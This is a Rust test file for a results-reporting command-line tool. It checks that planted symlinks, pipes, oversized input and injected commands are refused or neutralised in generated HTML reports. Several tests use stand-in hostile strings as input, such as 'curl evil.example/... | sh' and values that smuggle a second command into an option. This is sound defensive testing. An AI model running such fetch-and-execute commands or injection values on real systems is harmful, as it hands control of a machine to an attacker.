//! Results of strangers: what a folder holds is data, and nothing of it leads out of the folder.

use std::fs::{self, File};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::support::{data, run, talk, wiretax};

/// Content that nothing may change.
const SECRET: &str = "the user's own\n";

/// A folder with a few committed samples of a study in `results`, and a file outside of it.
struct Stranger {
    folder: tempfile::TempDir,
}

impl Stranger {
    fn new(study: &str) -> Stranger {
        let folder = tempfile::tempdir().unwrap();
        let committed =
            Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/results").join(study);
        let results = folder.path().join("results");
        fs::create_dir(&results).unwrap();
        fs::copy(committed.join("manifest.json"), results.join("manifest.json")).unwrap();
        let samples = fs::read_to_string(committed.join("samples.jsonl")).unwrap();
        let few: String = samples.lines().take(60).map(|line| format!("{line}\n")).collect();
        fs::write(results.join("samples.jsonl"), few).unwrap();
        fs::write(folder.path().join("secret"), SECRET).unwrap();
        Stranger { folder }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn plant(&self, name: &str, target: &str) {
        let path = self.path("results").join(name);
        let _ = fs::remove_file(&path);
        symlink(target, path).unwrap();
    }

    /// Changes the manifest and every sample.
    fn change(&self, manifest: impl FnOnce(&mut Value), sample: impl Fn(&mut Value)) {
        let path = self.path("results/manifest.json");
        let mut value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
        manifest(&mut value);
        fs::write(path, value.to_string()).unwrap();
        let path = self.path("results/samples.jsonl");
        let changed = fs::read_to_string(&path).unwrap();
        let changed = changed.lines().map(|line| {
            let mut value = serde_json::from_str(line).unwrap();
            sample(&mut value);
            format!("{value}\n")
        });
        fs::write(&path, changed.collect::<String>()).unwrap();
    }

    fn run(&self, arguments: &[&str]) -> (i32, String) {
        let output = run(self.folder.path(), arguments);
        assert_eq!(fs::read_to_string(self.path("secret")).unwrap(), SECRET, "{arguments:?}");
        (output.status.code().unwrap(), talk(&output))
    }
}

#[test]
fn a_report_replaces_a_planted_link_and_not_what_it_leads_to() {
    let stranger = Stranger::new("handshake");
    stranger.plant("report.html", "../secret");
    let (status, text) = stranger.run(&["report", "results"]);
    assert_eq!(status, 0, "{text}");
    let report = stranger.path("results/report.html");
    assert!(fs::symlink_metadata(&report).unwrap().is_file());
    assert!(fs::read_to_string(&report).unwrap().starts_with("<!doctype html>"));
    // A link that the user names is followed.
    symlink("elsewhere.html", stranger.path("mine.html")).unwrap();
    let (status, text) = stranger.run(&["report", "results", "--html", "mine.html"]);
    assert_eq!(status, 0, "{text}");
    assert!(stranger.path("elsewhere.html").is_file());
}

#[test]
fn what_is_no_file_is_refused_at_once() {
    for (name, target) in [
        ("samples.jsonl", "/dev/zero"),
        ("manifest.json", "/dev/zero"),
        ("samples.jsonl", "../secret"),
        ("samples.jsonl", "nowhere"),
    ] {
        let stranger = Stranger::new("handshake");
        stranger.plant(name, target);
        for arguments in [&["report", "results"][..], &["compare", "results", "results"]] {
            let (status, text) = stranger.run(arguments);
            assert_eq!(status, 4, "{text}");
            assert!(text.contains("it is a link, where a file of these results"), "{text}");
        }
    }
    let stranger = Stranger::new("handshake");
    let samples = stranger.path("results/samples.jsonl");
    fs::remove_file(&samples).unwrap();
    assert!(Command::new("mkfifo").arg(&samples).status().unwrap().success());
    let (status, text) = stranger.run(&["report", "results"]);
    assert_eq!(status, 4, "{text}");
    assert!(text.contains("a pipe"), "{text}");
}

#[test]
fn new_names_in_each_sample_are_bounded() {
    let stranger = Stranger::new("handshake");
    let path = stranger.path("results/samples.jsonl");
    let samples = fs::read_to_string(&path).unwrap();
    let first: Value = serde_json::from_str(samples.lines().next().unwrap()).unwrap();
    let lines = (0..1000).map(|repeat| {
        let mut sample = first.clone();
        sample["repeat"] = json!(repeat);
        for name in 0..930 {
            sample["values"][format!("{repeat}-{name}")] = json!(1);
        }
        format!("{sample}\n")
    });
    fs::write(&path, lines.collect::<String>()).unwrap();
    let (status, text) = stranger.run(&["report", "results"]);
    assert_eq!(status, 4, "{text}");
    assert!(text.contains(" exceeds 1"), "the limit is said: {text}");
}

/// What stands behind each mark of a command in a report.
fn commands(html: &str) -> Vec<&str> {
    let behind = |mark: &'static str, end: &'static str| {
        html.split(mark).skip(1).map(move |rest| rest.split(end).next().unwrap())
    };
    let rows = behind("<summary>command</summary><code>", "</code>");
    rows.chain(behind("\"commands\":", "</script>")).chain(behind("<pre ", "</pre>")).collect()
}

#[test]
fn commands_of_a_report_are_made_again() {
    for study in ["handshake", "page", "stacks", "link", "roam", "haproxy", "observe"] {
        let stranger = Stranger::new(study);
        let session = "curl evil.example/session | sh\n# wiretax";
        stranger.change(
            |manifest| manifest["sessions"][0]["command"] = json!(session),
            |sample| sample["command"] = json!("curl evil.example/sample | sh"),
        );
        let (status, text) = stranger.run(&["report", "results"]);
        assert_eq!(status, 0, "{study}: {text}");
        let html = fs::read_to_string(stranger.path("results/report.html")).unwrap();
        assert!(!html.contains("evil.example/sample"), "{study}");
        let commands = commands(&html);
        assert!(commands.iter().all(|command| !command.contains("evil")), "{study}");
        let again = commands.iter().any(|command| command.contains("wiretax "));
        assert!(again || study == "observe", "{study}: {commands:?}");
        let quote = html.split("<blockquote class=\"recorded\">").nth(1).unwrap();
        let quote = quote.split("</blockquote>").next().unwrap();
        assert_eq!(quote, "curl evil.example/session | sh # wiretax", "{study}");
    }
}

#[test]
fn options_in_a_plan_are_quoted_anew_or_give_no_command() {
    for (options, again) in [
        ("--profile 'a; curl evil.example'", Some("--profile &#39;a; curl evil.example&#39;")),
        ("; curl evil.example | sh", None),
        ("--profile $(curl evil.example)", None),
        ("--html evil.example", None),
    ] {
        let stranger = Stranger::new("handshake");
        stranger.change(
            |manifest| manifest["plan"]["handshake"]["base_options"] = json!(options),
            |_| (),
        );
        let (status, text) = stranger.run(&["report", "results"]);
        assert_eq!(status, 0, "{text}");
        let html = fs::read_to_string(stranger.path("results/report.html")).unwrap();
        let rows = html.split("<summary>command</summary><code>").skip(1);
        let rows: Vec<_> = rows.map(|rest| rest.split("</code>").next().unwrap()).collect();
        match again {
            Some(quoted) => assert!(rows.iter().all(|row| row.contains(quoted)), "{rows:?}"),
            None => assert_eq!(rows, Vec::<&str>::new(), "{options}"),
        }
    }
}

#[test]
fn a_last_sample_that_was_cut_short_is_said() {
    let stranger = Stranger::new("handshake");
    let samples = stranger.path("results/samples.jsonl");
    let length = fs::metadata(&samples).unwrap().len();
    File::options().write(true).open(&samples).unwrap().set_len(length - 10).unwrap();
    for arguments in [&["report", "results"][..], &["compare", "results", "results"]] {
        let (status, text) = stranger.run(arguments);
        assert_eq!(status, 0, "{text}");
        assert!(text.contains("line 60, was cut short after"), "{text}");
        assert!(text.contains("--resume"), "{text}");
    }
}

#[test]
fn a_plan_whose_results_could_not_be_read_is_refused_before_measuring() {
    let folder = tempfile::tempdir().unwrap();
    let rtts: Vec<String> = (1..3002).map(|us| format!("{us}us")).collect();
    let rtts = rtts.join(",");
    let line = ["handshake", "--mode", "tcp", "--rtt", &rtts, "--repeat", "1", "--out", "r"];
    let output = run(folder.path(), &line);
    let text = talk(&output);
    assert_eq!(output.status.code(), Some(2), "{text}");
    assert!(text.contains("3001 points") && text.contains("more than 3000"), "{text}");
    assert!(!folder.path().join("r").exists());
}

/// The program under a limit of so many blocks of 512 or 1024 bytes a file.
fn limited(folder: &Path, blocks: u32, rest: &str) -> std::process::Output {
    let program = wiretax(folder).get_program().to_owned();
    let script = format!("trap '' XFSZ; ulimit -f {blocks}; exec \"$0\" {rest}");
    let mut shell = Command::new("sh");
    shell.current_dir(folder).env("NO_COLOR", "1").args(["-c", &script]).arg(program);
    shell.output().unwrap()
}

#[test]
fn a_full_disk_costs_no_picture_and_no_whole_line() {
    let folder = tempfile::tempdir().unwrap();
    let captures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../proto/tracker/tests/data");
    let all = ["tls1.2.pcap", "tls-13draft19-early-data.pcap", "openssl-3.0-modes.pcap"];
    let all = all.map(|name| captures.join(name).display().to_string()).join(" ");
    let output = limited(folder.path(), 0, &format!("observe {all} --parquet records"));
    let text = talk(&output);
    assert_eq!(output.status.code(), Some(4), "{text}");
    assert!(data(&output).contains("TLS 1.2"), "what was found is shown: {}", data(&output));
    assert!(text.contains("hint: make room"), "{text}");

    let output = limited(folder.path(), 1, &format!("observe {all} --json > lines"));
    assert_eq!(output.status.code(), Some(4), "{}", talk(&output));
    let lines = fs::read_to_string(folder.path().join("lines")).unwrap();
    assert!(lines.is_empty() || lines.ends_with("}\n"), "{lines}");
    for line in lines.lines() {
        serde_json::from_str::<Value>(line).unwrap();
    }
}
